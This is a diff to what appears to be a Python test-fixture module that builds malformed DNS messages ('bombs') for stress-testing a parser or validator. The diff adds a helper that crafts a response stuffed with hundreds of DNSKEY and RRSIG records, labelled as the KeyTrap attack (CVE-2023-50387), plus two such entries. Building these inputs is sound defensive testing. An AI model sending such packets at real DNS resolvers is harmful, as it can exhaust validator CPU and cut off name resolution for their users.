@@ -34,6 +34,19 @@ def _chained_pointers() -> bytes:
     )
 
 
+def _signed(keys: int, signatures: int) -> bytes:
+    """As many keys as signatures to try them on (KeyTrap, CVE-2023-50387), for a validator."""
+    key = b"\1\1\3\x08" + bytes(range(32))
+    signature = b"\0\x30\x08\2" + bytes(14) + QUESTION[:-4] + bytes(range(32))
+    return (
+        header(1, keys + signatures)
+        + QUESTION[:-4]
+        + b"\0\x30\0\1"
+        + keys * _record(b"\xc0\x0c", 48, key)
+        + signatures * _record(b"\xc0\x0c", 46, signature)
+    )
+
+
 def bombs() -> dict[str, bytes]:
     """Every bomb by what it is made of."""
     long_name = b"\1a" * 126 + b"\0"
@@ -64,6 +77,8 @@ def bombs() -> dict[str, bytes]:
         "F: 13,000 questions": header(13_000) + b"\0\0\1\0\1" * 13_000,
         "G: 15,890 service parameters": header(1, 1) + QUESTION[:-4] + b"\0\x41\0\1"
         + _record(b"\xc0\x0c", 65, service),
+        "H: 500 keys, 500 signatures": _signed(500, 500),
+        "H': 255 keys, 250 signatures": _signed(255, 250),
     }  # fmt: skip
 
 
